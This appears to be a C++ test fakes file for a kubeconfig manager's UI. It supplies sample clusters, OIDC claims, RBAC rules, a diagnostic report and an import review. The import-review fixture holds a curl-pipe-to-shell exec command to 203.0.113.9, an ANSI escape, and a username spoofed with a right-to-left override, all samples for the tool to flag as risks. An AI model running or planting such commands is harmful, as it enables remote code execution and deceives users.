// SPDX-License-Identifier: Apache-2.0
// SPDX-FileCopyrightText: 2026 The Lanyard authors
#include "tests/ui/fakes.h"

#include "app/doctor/wording.h"

namespace Fakes {

using namespace std::chrono_literals;

namespace {

Kubeconfig::ExecConfig signInEntry()
{
    Kubeconfig::ExecConfig exec;
    exec.apiVersion = "client.authentication.k8s.io/v1";
    exec.command = "/usr/bin/kubectl-lanyard";
    exec.args = { "get-token", "--oidc-issuer-url=" + QtSupport::toStdString(issuer), "--oidc-client-id=kubernetes",
                  "--oidc-extra-scope=email", "--oidc-extra-scope=offline_access" };
    exec.interactiveMode = "Never";
    return exec;
}

void add(Kubeconfig::Config &config, const std::string &name, const std::string &server, const std::string &nameSpace,
         const std::string &user)
{
    Kubeconfig::Cluster cluster;
    cluster.name = name;
    cluster.server = server;
    cluster.file = "/home/jane/.kube/config";
    config.clusters.push_back(cluster);
    config.contexts.push_back({ name, name, user, nameSpace, "/home/jane/.kube/config" });
}

} // namespace

Kubeconfig::Config sampleConfig()
{
    Kubeconfig::Config config;
    add(config, "prod-eu", "https://api.prod-eu.example.com:6443", "payments", "sso");
    add(config, "prod-us", "https://api.prod-us.example.com:6443", "payments", "sso");
    add(config, "staging", "https://api.staging.example.com:6443", "", "sso");
    add(config, "build-farm", "https://10.20.0.4:6443", "ci", "robot");
    add(config, "kind-local", "https://127.0.0.1:38217", "", "cert");
    config.currentContext = "prod-eu";
    config.currentContextFile = "/home/jane/.kube/config";
    Kubeconfig::User sso;
    sso.name = "sso";
    sso.exec = signInEntry();
    Kubeconfig::User robot;
    robot.name = "robot";
    robot.hasToken = true;
    Kubeconfig::User cert;
    cert.name = "cert";
    cert.hasClientCertificate = true;
    config.users = { sso, robot, cert };
    return config;
}

Kubeconfig::Config largeConfig(int contexts)
{
    Kubeconfig::Config config = sampleConfig();
    for (int i = 0; i < contexts; ++i) {
        const std::string name = "cluster-" + std::to_string(i);
        add(config, name, "https://api." + name + ".example.com:6443", i % 2 == 0 ? "default" : "team-b", "sso");
    }
    return config;
}

Sessions::Known sampleSession(const Support::FakeClock &clock)
{
    Sessions::Known known;
    known.request.client.issuer = issuer;
    known.request.client.clientId = u"kubernetes"_s;
    known.request.client.scopes = { u"openid"_s, u"email"_s, u"offline_access"_s };
    known.info.id = sessionId(issuer, u"kubernetes"_s);
    known.info.issuer = issuer;
    known.info.clientId = u"kubernetes"_s;
    known.info.username = u"sm01@example.test"_s;
    known.info.groups = { u"ADMIN"_s, u"security-developer"_s };
    known.info.expiresAt = clock.now() + 7min + 20s;
    known.info.refreshable = true;
    known.info.state = Session::SessionState::Ready;
    const auto seconds = std::chrono::duration_cast<std::chrono::seconds>(clock.now().time_since_epoch()).count();
    known.claims = Session::SessionClaims {
        { { "alg", "RS256" }, { "kid", "8Jt4vZq0" }, { "typ", "JWT" } },
        { { "preferred_username", "sm01@example.test" }, { "name", "Sam Miller" }, { "email", "sm01@example.test" },
          { "email_verified", true }, { "groups", { "ADMIN", "security-developer" } }, { "exp", seconds + 440 },
          { "iat", seconds - 160 }, { "auth_time", seconds - 5400 }, { "iss", QtSupport::toStdString(issuer) },
          { "aud", "kubernetes" }, { "azp", "kubernetes" }, { "sub", "5d3c8f4e-7f0b-4a56-9d3e-52d0f1b1c9a7" },
          { "sid", "0f8a1d52-c1f4-4e7e-8f39-20d1c11e0c15" }, { "department", "platform" } }
    };
    return known;
}

Ui::Planned samplePlan(const QString &summary)
{
    Ui::Planned planned;
    planned.plan.summary = QtSupport::toStdString(summary);
    planned.plan.changes = { { "/home/jane/.kube/config", true, "before", "after" } };
    planned.diff = u"--- /home/jane/.kube/config\n+++ /home/jane/.kube/config\n@@ -1,6 +1,6 @@\n apiVersion: v1\n"
                   " kind: Config\n # the clusters of my team\n-current-context: prod-eu\n+current-context: staging\n"
                   " clusters:\n - name: prod-eu\n"_s;
    return planned;
}

Kubernetes::UserInfo sampleUser()
{
    Kubernetes::UserInfo user;
    user.username = u"sm01@example.test"_s;
    user.groups = { u"oidc:ADMIN"_s, u"oidc:security-developer"_s, u"system:authenticated"_s };
    return user;
}

Kubernetes::RulesReview sampleRules()
{
    Kubernetes::RulesReview review;
    const QStringList read { u"get"_s, u"list"_s, u"watch"_s };
    review.resourceRules = {
        { read, { QString() }, { u"pods"_s, u"pods/log"_s, u"services"_s, u"configmaps"_s }, {} },
        { read, { u"apps"_s }, { u"deployments"_s, u"statefulsets"_s }, {} },
        { { u"patch"_s, u"update"_s }, { u"apps"_s }, { u"deployments/scale"_s }, { u"checkout"_s, u"ledger"_s } },
        { { u"create"_s }, { u"authentication.k8s.io"_s }, { u"selfsubjectreviews"_s }, {} },
        { { u"create"_s }, { u"authorization.k8s.io"_s }, { u"selfsubjectaccessreviews"_s, u"selfsubjectrulesreviews"_s }, {} },
        { { u"create"_s }, { u"authentication.k8s.io"_s }, { u"selfsubjectreviews"_s }, {} },
    };
    review.incomplete = true;
    review.evaluationError = u"webhook authorizer does not support user rule resolution"_s;
    return review;
}

Doctor::RbacObjects sampleBindings()
{
    Doctor::RbacObjects objects;
    objects.bindings = { { false, "dev", "payments", false, "Role", "deployer", { { "Group", "security-developer", {} } } },
                         { false, "other", "elsewhere", false, "Role", "x", { { "Group", "ADMIN", {} } } },
                         { true, "nodes", {}, false, "ClusterRole", "x", { { "User", "somebody", {} } } } };
    return objects;
}

Doctor::Report sampleReport()
{
    using Doctor::Severity;
    Doctor::Report report;
    report.verdict = Doctor::Verdict::Rejects;
    report.because = "it was asked just now; the first reason is audience-mismatch";
    report.findings = {
        { "api-tls-untrusted", Severity::Error,
          "the certificate of the API server comes from an authority that is not trusted here",
          "self-signed certificate in certificate chain; api.prod-eu.example.com: kube-apiserver ← kubernetes-ca",
          "put the cluster's authority into certificate-authority-data of the cluster. Fetch the chain with: openssl "
          "s_client -showcerts -connect api.prod-eu.example.com:6443 </dev/null",
          {}, "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n" },
        { "audience-mismatch", Severity::Error,
          "the token is for somebody else: the API server does not find itself in its audience",
          Doctor::bothSides("token aud", "k8s", "API server", "kubernetes"),
          "--oidc-client-id=k8s on the API server; or sign in with --oidc-client-id=kubernetes in exec.args; or, at the "
          "provider:\nClients → k8s → Client scopes → k8s-dedicated → Add mapper → Audience\n  Included Custom Audience: "
          "kubernetes",
          "oidc: verify token: oidc: expected audience \"kubernetes\" got [\"k8s\"]" },
        { "groups-prefix-mismatch", Severity::Warning,
          "a binding names your group otherwise than the API server sees it: prefixes are part of the name",
          Doctor::bothSides("API server", "oidc:security-developer", "RoleBinding \"security/dev\" names",
                            "security-developer"),
          "subjects:\n- kind: Group\n  name: \"oidc:security-developer\"\n  apiGroup: rbac.authorization.k8s.io", {} },
        { "lifetime-short", Severity::Info, "the ID token lives for one minute only", "exp - iat = 60 s",
          "Realm settings → Tokens → Access token lifespan: 5 minutes", {} },
    };
    report.checked = { "kubeconfig-unreadable", "exec-api-version", "api-tls-untrusted", "audience-mismatch",
                       "groups-prefix-mismatch", "lifetime-short", "keychain-missing" };
    report.notChecked = { { "anonymous-access", "reading the cluster without a token needs your consent" },
                          { "lookalike-binding", "you may not list clusterrolebindings (--rbac FILE hands them in)" },
                          { "cluster-admin-widely-bound",
                            "you may not list clusterrolebindings (--rbac FILE hands them in)" } };
    return report;
}

QList<Ui::HistoryItem> sampleHistory()
{
    const QStringList files { u"/home/jane/.kube/config"_s };
    return { { 4, u"2026-11-24T11:02:10Z"_s, u"Switch to context staging"_s, files, false, true },
             { 3, u"2026-11-24T10:41:55Z"_s, u"Undo: Delete context old"_s, files, true, true },
             { 2, u"2026-11-24T10:41:02Z"_s, u"Delete context old"_s, files, true, true },
             { 1, u"2026-11-23T16:20:31Z"_s, u"Set the sign-in of user oidc"_s, files, false, false } };
}

Ui::ImportReview sampleReview()
{
    using Kind = Kubeconfig::Risk::Kind;
    using State = Kubeconfig::ImportedEntry::State;
    using Kubeconfig::Section;
    Ui::ImportReview review;
    review.risks = {
        { Kind::Path, "cluster prod-eu", "certificate-authority /home/jane/ca.pem", { 5, 5 } },
        { Kind::Command, "user admin\xe2\x80\xaegpj", "sh -c 'curl -s http://203.0.113.9/x | sh'\x1b[2J", { 14, 7 } },
        { Kind::Insecure, "cluster prod-eu", "the server's certificate is not checked", { 6, 5 } },
        { Kind::Proxy, "cluster prod-eu", "proxy-url http://203.0.113.9:3128", { 7, 5 } },
        { Kind::Secret, "user robot", "token in plain text", { 21, 5 } },
    };
    review.entries = { { Section::Clusters, "prod-eu", State::Different }, { Section::Clusters, "staging", State::Identical },
                       { Section::Users, "admin\xe2\x80\xaegpj", State::New },  { Section::Users, "robot", State::New },
                       { Section::Contexts, "new-cluster", State::New } };
    return review;
}

} // namespace Fakes
